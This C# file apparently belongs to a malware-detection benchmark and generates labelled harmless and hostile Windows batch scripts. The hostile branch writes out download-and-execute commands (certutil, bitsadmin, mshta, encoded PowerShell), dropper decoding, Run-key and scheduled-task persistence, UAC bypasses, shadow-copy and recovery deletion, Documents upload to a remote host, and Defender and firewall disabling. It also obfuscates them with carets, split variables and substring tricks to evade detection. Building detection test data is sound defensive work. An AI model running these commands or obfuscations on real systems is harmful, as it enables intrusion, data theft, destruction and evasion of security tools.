using System.Text;
using Platform.Benchmarks.Runner;

namespace Platform.Benchmarks.Detection.Samples.Scripts;

/// <summary>Writes batch files for an aim, and hides their words: carets, variables, letters cut out of one, loops with delayed expansion.</summary>
internal sealed class BatchCode(Random random)
{
    public string Hostile(ScriptAim aim)
    {
        var made = new StringBuilder("@echo off\n");
        if (random.Chance(0.5))
            made.Append("rem ").Append(random.Word()).Append('\n');
        foreach (var line in Lines(aim))
            made.Append(Hidden(line));
        return made.ToString();
    }

    public string Harmless()
    {
        var word = random.Word();
        return random.Pick((string[])
        [
            $"@echo off\nrobocopy C:\\{word} \\\\nas\\backup\\%COMPUTERNAME% /MIR /LOG:C:\\Logs\\{word}.log\nif %ERRORLEVEL% GEQ 8 echo failed>>C:\\Logs\\errors.txt\n",
            $"@echo off\nnet use Z: \\\\files\\{word} /persistent:no\nstart \"\" \"C:\\Program Files\\{word}\\{word}.exe\"\n",
            $"git pull\ndotnet build -c Release || goto failed\nnpm ci && npm run build\ngoto :eof\n:failed\necho {word}\nexit /b 1\n",
            $"for %%f in (*.{random.Word(2, 3)}) do type %%f >> {word}.csv\npause\n",
        ]);
    }

    private IEnumerable<string> Lines(ScriptAim aim)
    {
        var path = $"%{random.Pick(["TEMP", "APPDATA", "PUBLIC", "ProgramData"])}%\\{random.Word()}.{random.Pick(["exe", "scr", "com"])}";
        var address = ScriptFiles.Address(random, ".exe");
        if (aim == ScriptAim.Download)
            return random.Next(5) switch
            {
                0 => [$"certutil -urlcache -split -f {address} {path}", $"start {path}"],
                1 => [$"bitsadmin /transfer {random.Word()} /priority high {address} {path}", path],
                2 => [$"curl -s -L -o {path} {address}", $"start {path}"],
                3 => [$"mshta {ScriptFiles.Address(random, ".hta")}"],
                _ => [$"powershell -NoP -W Hidden -Enc {Convert.ToBase64String(Encoding.Unicode.GetBytes($"iwr {address} -OutFile $env:TEMP\\{random.Word()}.exe; iex (irm {address})"))}"],
            };
        if (aim == ScriptAim.Drop)
        {
            var text = $"%TEMP%\\{random.Word()}.txt";
            return [$"echo {Convert.ToBase64String([.. "MZ\u0090\0"u8.ToArray(), .. random.Bytes(36)])}>{text}", $"certutil -f -decode {text} {path}", path];
        }

        if (aim == ScriptAim.Persist)
            return random.Next(3) switch
            {
                0 => [$"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {random.Word()} /t REG_SZ /d {path} /f"],
                1 => [$"schtasks /create /f /sc minute /mo {random.Next(5, 60)} /tn {random.Word()} /tr {path}"],
                _ => ["copy %~f0 \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\\""],
            };
        if (aim == ScriptAim.Elevate)
            return [$"reg add HKCU\\Software\\Classes\\{random.Pick(["ms-settings", "mscfile"])}\\shell\\open\\command /ve /d {path} /f", random.Pick(["fodhelper.exe", "computerdefaults.exe", "eventvwr.exe"])];
        if (aim == ScriptAim.Ransom)
            return random.Next(3) switch
            {
                0 => ["vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled no"],
                1 => ["wmic shadowcopy delete", "wbadmin delete catalog -quiet"],
                _ => ["bcdedit /set {default} bootstatuspolicy ignoreallfailures", "bcdedit /set {default} recoveryenabled no"],
            };
        if (aim == ScriptAim.Exfiltrate)
            return [$"curl -F file=@%USERPROFILE%\\Documents\\{random.Word()}.docx {ScriptFiles.Address(random)}"];
        return random.Next(3) switch
        {
            0 => ["netsh advfirewall set allprofiles state off"],
            1 => [$"taskkill /f /im {random.Pick(["MsMpEng.exe", "avp.exe", "ekrn.exe"])}", "net stop WinDefend"],
            _ => ["reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"],
        };
    }

    // The first word of the line is what is looked for: it is taken apart.
    private string Hidden(string line)
    {
        var cut = line.IndexOf(' ', StringComparison.Ordinal);
        var (word, rest) = cut < 0 ? (line, "") : (line[..cut], line[cut..]);
        if (word.Contains('%', StringComparison.Ordinal) || word == "echo")
            return line + "\n";
        switch (random.Next(6))
        {
            case 0:
                return string.Concat(word.Select((c, index) => index > 0 && random.Chance(0.5) ? $"^{c}" : c.ToString())) + rest + "\n";
            case 1:
                var (a, b) = (random.Word(), random.Word());
                var half = random.Next(1, word.Length);
                return $"set {a}={word[..half]}\nset \"{b}={word[half..]}\"\n%{a}%%{b}%{rest}\n";
            case 2:
                var name = random.Word();
                var letters = new string([.. word.Distinct().OrderBy(_ => random.Next())]);
                return $"set {name}={letters}\n{string.Concat(word.Select(c => $"%{name}:~{letters.IndexOf(c, StringComparison.Ordinal)},1%"))}{rest}\n";
            case 3:
                var (x, mark) = (random.Word(), random.Pick(["Q", "#", "@@"]));
                return $"set {x}={string.Concat(word.Select((c, index) => index > 0 && random.Chance(0.5) ? mark + c : c.ToString()))}\n%{x}:{mark}=%{rest}\n";
            case 4:
                return $"cmd /c {word}{rest}\n";
            default:
                return line + "\n";
        }
    }
}
